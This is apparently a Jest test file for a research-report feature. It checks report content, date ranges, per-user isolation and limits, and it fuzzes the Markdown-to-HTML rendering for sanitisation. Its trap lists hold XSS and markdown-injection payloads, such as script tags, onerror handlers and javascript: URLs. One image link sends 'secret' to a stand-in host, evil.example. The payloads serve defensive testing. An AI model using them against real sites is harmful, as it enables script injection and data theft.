import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { parseHTML } from 'linkedom';
import { toHtml } from '../../subgraphs/research/html.ts';
import { plainText } from '../../subgraphs/research/markdown.ts';
import { type ReportPart, reportText, sourcesOf } from '../../subgraphs/research/reportText.ts';
import type { ResultRow } from '../../subgraphs/research/rows.ts';
import { newId } from '../../subgraphs/shared/ids.ts';
import { type Person, startGraph, type TestGraph } from '../support/graph.ts';
import { addCategory, addResult } from './found.ts';

let graph: TestGraph;
let ana: Person;
beforeAll(async () => {
  graph = await startGraph();
  ana = await graph.person({ timeZone: 'Pacific/Auckland' });
}, 60_000);
afterAll(() => graph?.stop());

const fields = 'title from to resultCount markdown html sources { url title fetchedAt hash }';
const report = async (args = '', person = ana) =>
  (await person.data(`{ viewer { researchReport${args && `(${args})`} { ${fields} } } }`)).viewer.researchReport;
const place = (person: Person) => ({ db: graph.db, userId: person.userId, now: graph.clock.now() });

describe('a report', () => {
  test('tells by category and day what was found, how each statement stands, and what was read', async () => {
    const eva = await graph.person();
    const sleep = await addCategory(place(eva), 'Sleep');
    const news = await addCategory(place(eva), 'News & <i>more</i>');
    const study = {
      url: 'https://example.org/study?a=1&b=2',
      title: 'A study',
      fetchedAt: '2026-03-09T06:00:00.000Z',
      hash: 'ab12',
    };
    await addResult(place(eva), {
      categoryId: sleep,
      title: 'Naps',
      summary: 'Short naps help.',
      researchDate: new Date('2026-03-09'),
      sources: [study],
      claims: [
        { text: 'Naps help.', quote: 'short naps helped', source: 0, verdict: 'VERBATIM' },
        { text: 'Naps are free.', quote: null, source: null, verdict: 'UNVERIFIED' },
      ],
    });
    await addResult(place(eva), {
      categoryId: sleep,
      title: 'Tea',
      summary: '',
      status: 'INTEGRATED',
      createdIds: [newId('goal')],
      sources: [study],
      claims: [],
    });
    await addResult(place(eva), { categoryId: news, title: 'Version 7', claims: [], sources: [] });
    const made = await report('from: "2026-03-04", to: "2026-03-10"', eva);
    expect(made.markdown).toBe(`# Research from 2026-03-04 to 2026-03-10

3 results in 2 categories, from 1 source.

## News \\& \\<i\\>more\\</i\\>

### 2026-03-10

#### Version 7

*approved*

Short.

## Sleep

### 2026-03-10

#### Tea

*made into a goal*

### 2026-03-09

#### Naps

*approved*

Short naps help.

- Naps help. (verbatim)

  > short naps helped
  >
  > [A study](<https://example.org/study?a=1&b=2>), source 1, snapshot \`ab12\`

- Naps are free. (unverified)

## Sources

1. [A study](<https://example.org/study?a=1&b=2>), fetched at 2026-03-09 06:00 UTC, SHA-256 \`ab12\`
`);
    expect(made).toMatchObject({ title: 'Research from 2026-03-04 to 2026-03-10', resultCount: 3, sources: [study] });
    const { document } = parseHTML(`<html><body>${made.html}</body></html>`);
    expect([...document.querySelectorAll('h2')].map((h) => h.textContent)).toEqual([
      'News & <i>more</i>',
      'Sleep',
      'Sources',
    ]);
    expect([...document.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.getAttribute('rel')])).toEqual(
      Array(2).fill([study.url, 'noopener noreferrer nofollow']),
    );
    expect(document.querySelector('li blockquote')?.textContent).toContain('short naps helped');
  });

  test('is of the last seven days by the person’s own wall clock, and of what was approved, unless asked otherwise', async () => {
    // It is the 11th in Auckland.
    graph.clock.set('2026-03-10T12:00:00Z');
    for (const date of ['2026-03-04', '2026-03-05', '2026-03-11', '2026-03-12'])
      await addResult(place(ana), { title: `Of ${date}`, researchDate: new Date(date) });
    await addResult(place(ana), { title: 'Pending', status: 'PENDING' });
    await addResult(place(ana), { title: 'Rejected', status: 'REJECTED' });
    const titles = async (args?: string) =>
      [...(await report(args)).markdown.matchAll(/^#### (.*)$/gm)].map(([, title]) => title).sort();
    expect(await report()).toMatchObject({ from: '2026-03-05', to: '2026-03-11', resultCount: 2 });
    expect(await titles()).toEqual(['Of 2026-03-05', 'Of 2026-03-11']);
    expect(await titles('statuses: [PENDING, REJECTED]')).toEqual(['Pending', 'Rejected']);
    expect(await titles('statuses: []')).toEqual([]);
    expect(await titles('from: "2026-03-12", to: "2026-03-12"')).toEqual(['Of 2026-03-12']);
  });

  test('is of the categories asked for, and never of somebody else’s', async () => {
    const [eva, bob] = [await graph.person(), await graph.person()];
    const [one, two] = [await addCategory(place(eva), 'One'), await addCategory(place(eva), 'Two')];
    const foreign = await addCategory(place(bob), 'Bob');
    await addResult(place(eva), { categoryId: one });
    await addResult(place(eva), { categoryId: two });
    await addResult(place(bob), { categoryId: foreign, title: 'Secret' });
    const count = async (ids: string[]) => (await report(`categoryIds: ${JSON.stringify(ids)}`, eva)).resultCount;
    expect(await count([one])).toBe(1);
    expect(await count([one, two])).toBe(2);
    expect(await count([])).toBe(0);
    for (const id of [foreign, newId('category'), 'x']) expect(await count([id])).toBe(0);
    expect((await report('', eva)).markdown).not.toContain('Secret');
  });

  test('of nothing says so', async () => {
    const made = await report('', await graph.person());
    expect(made).toMatchObject({ resultCount: 0, sources: [] });
    expect(made.markdown).toContain('Nothing was found in this time.');
  });

  test.each([
    ['that ends before it begins', 'from: "2026-03-02", to: "2026-03-01"'],
    ['of 367 days', 'from: "2025-01-01", to: "2026-01-02"'],
    ['of 101 categories', `categoryIds: ${JSON.stringify(Array(101).fill('x'))}`],
  ])('%s is refused', async (_, args) => {
    const answer = await ana.run(`{ viewer { researchReport(${args}) { title } } }`);
    expect(answer.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  });

  test('of more than 200 results is refused', async () => {
    const eva = await graph.person();
    const categoryId = await addCategory(place(eva));
    for (let i = 0; i < 200; i++) await addResult(place(eva), { categoryId });
    expect((await report('', eva)).resultCount).toBe(200);
    await addResult(place(eva), { categoryId });
    const answer = await eva.run('{ viewer { researchReport { title } } }');
    expect(answer.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  });

  test('takes the right to read research', async () => {
    const limited = graph.as({ ...ana.viewer, scopes: ['profile:read', 'goals:read'] });
    const answer = await limited.run('{ viewer { researchReport { title } } }');
    expect(answer.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
  });
});

/** What others may write: anything, and what has gone wrong elsewhere. */
const traps = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/?q=secret)',
  '[click](javascript:alert(1))',
  '[a]: https://evil.example',
  '[a]',
  '<https://evil.example>',
  'https://evil.example/',
  'www.evil.example',
  'a@evil.example',
  'mailto:a@evil.example',
  '# Heading',
  '\n\n# Heading',
  '\r# Heading',
  '> quote',
  '1. list',
  '- list',
  '- [x] done',
  '***',
  '===',
  '---',
  '```\ncode',
  '`code`',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '<!-- ',
  '&lt;script&gt;',
  '&#60;b&#62;',
  '\\<b>',
  '\\\\[x](https://evil.example)',
  '**bold** _em_ ~~gone~~',
  '\u202egnp.exe',
  '</p></body><iframe src="//evil.example">',
  '<a href="https://evil.example" onclick=x>',
  '](https://evil.example) [x',
  '>) [x](<https://evil.example',
  'ht\u200btps://evil.example',
  '    indented',
  '\t\tindented',
];
const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: fc.constantFrom(...'\\`*_[]<>&~|!#:.@/()"\'=-+1 \n\tawhtps'), maxLength: 40 }),
  fc
    .array(fc.oneof(fc.constantFrom(...traps), fc.string({ maxLength: 5 })), { maxLength: 4 })
    .map((all) => all.join('')),
);
const addresses = [
  'https://example.org/',
  'https://example.org/?a=1&copy;=2#<b>"\\)',
  'http://example.org/a_b*c*[d](e)',
  'https://example.org/>) ![x](https://evil.example/',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://user:password@example.org/',
  '//evil.example',
  'not an address',
];
const source = fc.record({
  url: fc.oneof(fc.constantFrom(...addresses), fc.webUrl({ withFragments: true, withQueryParameters: true })),
  title: text,
  fetchedAt: fc.constant('2026-03-09T06:00:00.000Z'),
  hash: fc.constantFrom('ab12', '`](https://evil.example)'),
});
const verdict = fc.constantFrom('VERBATIM', 'SUPPORTED', 'UNVERIFIED');
const claim = fc.record({ text, quote: fc.option(text), source: fc.constantFrom(null, 0, 7), verdict });
const result = fc.record({
  title: text,
  summary: text,
  sources: fc.array(source, { maxLength: 2 }),
  claims: fc.array(claim, { maxLength: 2 }),
  status: fc.constantFrom('APPROVED', 'INTEGRATED'),
  createdIds: fc.array(fc.constantFrom('goal_1', 'note_1', 'rule_1')),
  researchDate: fc.constant(new Date('2026-03-09')),
});
const part = fc.record({ category: text, results: fc.array(result, { minLength: 1, maxLength: 2 }) });

const htmlOf = (markdown: string) => parseHTML(`<html><body>${toHtml(markdown)}</body></html>`).document;
/** An address, whichever of its characters are written with a percent sign. */
const bytes = (href: string) => href.replace(/%([0-9a-f]{2})/gi, (_, code) => String.fromCharCode(parseInt(code, 16)));
const visible = (shown: string) =>
  shown
    .replace(/\s+/g, ' ')
    .replace(/[\p{Cc}\u{200b}\u{200e}\u{200f}\u{202a}-\u{202e}\u{2028}\u{2029}\u{2066}-\u{2069}\u{feff}]+/gu, '')
    .trim();

describe('whatever titles, summaries, statements and quotes hold', () => {
  test('the report has the elements that it was given, no others, and links to its sources only', () => {
    const tags = 'h1 h2 h3 h4 p ul ol li blockquote strong em code a br'.split(' ');
    fc.assert(
      fc.property(fc.array(part, { minLength: 1, maxLength: 2 }), (given) => {
        const parts = given as unknown as ReportPart[];
        const sources = sourcesOf(parts);
        const document = htmlOf(reportText('Report', parts, sources));
        const elements = [...document.body.querySelectorAll('*')];
        for (const element of elements) {
          expect(tags).toContain(element.localName);
          const names = [...element.attributes].map(({ name }) => name).sort();
          expect(names).toEqual(element.localName === 'a' ? ['href', 'rel'] : []);
        }
        const all = parts.flatMap(({ results }) => results);
        const count = (name: string) => elements.filter(({ localName }) => localName === name).length;
        expect(count('h1')).toBe(1);
        expect(count('h2')).toBe(parts.length + (sources.length > 0 ? 1 : 0));
        expect(count('h4')).toBe(all.length);
        expect(count('em')).toBe(all.length);
        expect(count('strong')).toBe(0);
        expect(count('li')).toBe(sources.length + all.flatMap((row: ResultRow) => row.claims).length);
        // A link shows nobody's password.
        const known = sources
          .filter(({ url }) => URL.canParse(url))
          .map(({ url }) => bytes(Object.assign(new URL(url), { username: '', password: '' }).href));
        for (const element of elements.filter(({ localName }) => localName === 'a')) {
          const href = element.getAttribute('href')!;
          expect(href).toMatch(/^https?:\/\//);
          expect(known).toContain(bytes(href));
        }
        const headings = elements.filter(({ localName }) => localName === 'h4').map(({ textContent }) => textContent);
        expect(headings).toEqual(all.map(({ title }) => visible(title)));
      }),
      { numRuns: 1_000 },
    );
  });

  test('a text shows as it is, wherever it stands', () => {
    fc.assert(
      fc.property(text, (given) => {
        for (const before of ['', '# ', '- ', '> ', 'x ', '- x ', '> x ']) {
          const shown = htmlOf(before + plainText(given)).body.textContent ?? '';
          expect(shown.trim()).toBe(`${before.includes('x') ? 'x ' : ''}${visible(given)}`.trim());
        }
      }),
      { numRuns: 1_000 },
    );
  });
});
